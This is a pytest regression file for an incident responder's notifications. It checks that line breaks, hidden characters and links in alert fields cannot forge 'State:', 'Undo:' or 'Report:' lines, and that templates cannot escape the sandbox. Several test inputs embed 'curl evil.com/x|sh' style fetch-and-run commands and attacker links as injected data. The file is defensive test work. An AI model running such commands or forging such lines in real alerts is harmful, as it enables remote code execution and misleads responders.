"""Alert text in a message stays text: it forges no line, links nowhere, and shows as alert text.

Regression for issue 15 section 4: a line break in `container.name` or `proc.cmdline` forged
`State:` and `Undo:` lines in every channel's message.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest
from _builders import make_alert, make_event
from _hostile import HIDDEN, LINE_BREAKS
from _links import links
from _messages import INCIDENT_ID, RELEASE, REPORT, hostile_facts

from responder.notifications.messages import build_message
from responder.playbooks import template_context
from responder.text import Templates, inert
from responder.web.state import FOLLOWUP, OUTBOX

if TYPE_CHECKING:
    from conftest import ClientFactory

    from responder.notifications.channels import Message

OURS = ["State: contained", f"Report: {REPORT}", f"Undo: {RELEASE}"]
FIELDS = (
    "event.name",
    "event.output",
    "event.hostname",
    "container.name",
    "container.image",
    "recorded container",
    "note",
    "step detail",
    "step error",
)


def forged(brk: str) -> str:
    """A value that tries to add our lines, and a link, after a line break."""
    return f"web-1{brk}State: released{brk}Undo: curl evil.com/x|sh{brk}Report: https://evil.io/r"


def our_lines(message: Message) -> list[str]:
    """The lines of the text that start with one of the labels only the responder may write."""
    labels = ("State:", "Report:", "Undo:")
    return [line for line in message.text.splitlines() if line.startswith(labels)]


@pytest.mark.parametrize("brk", LINE_BREAKS)
@pytest.mark.parametrize("field", FIELDS)
def test_a_line_break_in_any_alert_value_forges_no_line_of_the_default_message(
    field: str, brk: str
) -> None:
    """Whatever field holds `<break>State: released<break>Undo: ...`, ours are the only such lines."""
    message = build_message("incident", hostile_facts(field, forged(brk)), Templates(), None)
    assert our_lines(message) == OURS
    assert links(message.text) == [REPORT]


@pytest.mark.parametrize("brk", LINE_BREAKS)
@pytest.mark.parametrize("field", ["event.name", "event.hostname", "container.name", "step detail"])
def test_a_line_break_in_any_alert_value_forges_no_line_of_a_release_notice(
    field: str, brk: str
) -> None:
    """The release notice prints the same values: `RELEASED:`, `Undo:` and `Report:` stay ours."""
    facts = hostile_facts(field, forged(brk), state="released", release_command=None)
    message = build_message("release", facts, Templates(), None)
    lines = message.text.splitlines()
    assert lines[0] == f"RELEASED: incident {INCIDENT_ID} (contain-shell) is released."
    assert [line for line in lines if line.startswith(("State:", "Undo:", "Report:"))] == [
        f"Report: {REPORT}"
    ]


@pytest.mark.parametrize("brk", LINE_BREAKS)
@pytest.mark.parametrize("field", ["event.name", "event.hostname", "container.name"])
def test_the_title_and_every_fact_stay_one_line(field: str, brk: str) -> None:
    """Title, host, container, image and steps hold the break as an escape, on one line."""
    message = build_message("incident", hostile_facts(field, forged(brk)), Templates(), None)
    fields = message.model_dump(exclude={"text"})
    for label, value in message.facts():
        assert value.splitlines() == [value], label
    assert message.title.splitlines() == [message.title]
    assert "\\" in str(fields)


def test_a_multi_line_output_is_one_quoted_block_under_alert() -> None:
    """Each line of the alert's output is quoted with `> `, after `Alert:`, nothing else."""
    output = "A shell was spawned\r\nuser=root\ncommand=bash -c 'curl https://evil.com/x | sh'"
    message = build_message("incident", hostile_facts("event.output", output), Templates(), None)
    assert (
        "\nAlert:\n"
        "> A shell was spawned\n"
        "> user=root\n"
        "> command=bash -c 'curl https[://]evil[.]com/x | sh'\n\n"
        f"Report: {REPORT}\n"
    ) in message.text


def test_the_notify_step_message_is_one_quoted_block_under_note() -> None:
    """The step's own `message`, rendered from alert text, is quoted too: it is alert text."""
    note = "Shell in web-1\nState: released\nUndo: curl evil.com|sh"
    message = build_message("incident", hostile_facts("note", note), Templates(), None)
    expected = "\nNote:\n> Shell in web-1\n> State: released\n> Undo: curl evil[.]com|sh\n\nDone:"
    assert expected in message.text
    assert our_lines(message) == OURS


@pytest.mark.parametrize("char", HIDDEN)
def test_a_hidden_character_in_the_output_is_shown_as_an_escape(char: str) -> None:
    """Escape sequences, NUL, bidi overrides and zero-width characters show as escapes."""
    message = build_message(
        "incident", hostile_facts("event.output", f"id{char}=0"), Templates(), None
    )
    assert f"\n> {inert(f'id{char}=0')}\n" in message.text
    assert char not in message.text


CHANNEL_TEMPLATE = """\
{{ event.name }} on {{ event.hostname }}: {{ event.output }}
{% for k, v in event.labels.items() %}label {{ k }}={{ v }}
{% endfor %}{% for k, v in event.annotations.items() %}annotation {{ k }}={{ v }}
{% endfor %}{% for k, v in event.fields.items() %}field {{ k }}={{ v }}
{% endfor %}{% for tag in event.tags %}tag {{ tag }}
{% endfor %}note {{ incident.message }}
step {{ incident.steps[0].detail }}
Report: {{ incident.report }}
Undo: {{ incident.release_command }}
"""


@pytest.mark.parametrize("brk", LINE_BREAKS)
def test_a_channel_template_prints_every_alert_value_on_one_line(brk: str) -> None:
    """Labels, annotations, fields and tags of an alert, keys too, each stay on their line."""
    value = forged(brk)
    alert = make_alert(
        name=value,
        hostname=value,
        output=value,
        labels={value: value, "container": value},
        annotations={"summary": value, value: "x"},
        fields={"proc.cmdline": value, value: [value]},
        tags=(value,),
    )
    facts = hostile_facts("note", value, context=template_context(alert, None, None, INCIDENT_ID))
    text = build_message("incident", facts, Templates(), CHANNEL_TEMPLATE).text
    prefixes = ("label ", "annotation ", "field ", "tag ", "note ", "step ", "Report: ", "Undo: ")
    lines = text.splitlines()
    assert len(lines) == 1 + 2 + 2 + 2 + 1 + 1 + 1 + 1 + 1
    assert all(line.startswith(prefixes) for line in lines[1:])
    assert lines[-2:] == [f"Report: {REPORT}", f"Undo: {RELEASE}"]
    assert links(text) == [REPORT]


def test_a_channel_template_can_quote_a_value_as_a_block() -> None:
    """`| quoted` prints alert text as the default message does: `> ` before each line."""
    facts = hostile_facts("event.output", "one\ntwo https://evil.com")
    text = build_message(
        "incident", facts, Templates(), "Output:\n{{ event.output | quoted }}"
    ).text
    assert text == "Output:\n> one\n> two https[://]evil[.]com\n"


@pytest.mark.parametrize(
    "template",
    [
        "{{ (event.output | quoted) ~ '' }}",
        "{{ (event.output | quoted) | string }}",
        "{{ (event.output | quoted) | upper }}",
        "{{ '{}'.format(event.output | quoted) }}",
        "{{ ['', event.output | quoted] | join('') }}",
        "{{ event.output | safe }}",
        "{{ event.output | e }}",
    ],
)
def test_a_quoted_block_made_a_string_again_is_one_line_again(template: str) -> None:
    """Only the block itself prints on several lines; whatever a template makes of it, does not."""
    facts = hostile_facts("event.output", "one\nState: released")
    text = build_message("incident", facts, Templates(), template).text
    assert text.splitlines() == [text.rstrip("\n")]


@pytest.mark.parametrize(
    "template",
    ["{{ (event.output | quoted)._block }}", "{{ (event.output | quoted).__class__ }}"],
)
def test_a_quoted_block_cannot_be_opened_by_a_template(template: str) -> None:
    """The sandbox hides its private text and its class: the filter is the only way to make one."""
    facts = hostile_facts("event.output", "one\nState: released")
    assert build_message("incident", facts, Templates(), template).text == "\n"


def test_our_report_link_and_release_command_print_as_they_are() -> None:
    """The report's URL is still a link and the command still runs (`responder.io` kept as is)."""
    message = build_message("incident", hostile_facts("note", "x"), Templates(), None)
    assert message.text.endswith(f"Report: {REPORT}\nUndo: {RELEASE}\n")
    assert links(message.text) == [REPORT]
    assert message.report == REPORT
    assert message.release_command == RELEASE


def test_the_playbook_description_is_the_operators_own_text() -> None:
    """What the operator wrote (a runbook link, several lines) prints as written."""
    description = "Runbook: https://wiki.example.com/shell\nCall the owner."
    context = template_context(make_event(), None, None, INCIDENT_ID)
    context["playbook"] = {"name": "contain-shell", "description": description}
    facts = hostile_facts("note", "x", context=context)
    text = build_message("incident", facts, Templates(), "{{ playbook.description }}").text
    assert text == description + "\n"


@pytest.mark.parametrize("brk", ["\n", "\r\n", "\u2028"])
async def test_a_quarantine_notice_shows_the_error_as_one_inert_line(
    make_client: ClientFactory, brk: str
) -> None:
    """The error that set an event aside may quote its container reference: one line, no link."""
    client = await make_client()
    event_id = "01JQ8ZK3V5T7W9X1Y2Z3A4B5C7"
    error = f"no answer for {forged(brk)}"
    await client.app[FOLLOWUP].notifications.for_quarantine(event_id, 7, error)
    [notice] = await client.app[OUTBOX].run(lambda store: store.for_incident(event_id))
    lines = notice.message.text.splitlines()
    assert [line for line in lines if line.startswith("Why: ")] == [f"Why: {inert(error)}"]
    assert not [line for line in lines if line.startswith(("State:", "Undo:", "Report:"))]
    assert links(notice.message.text) == []
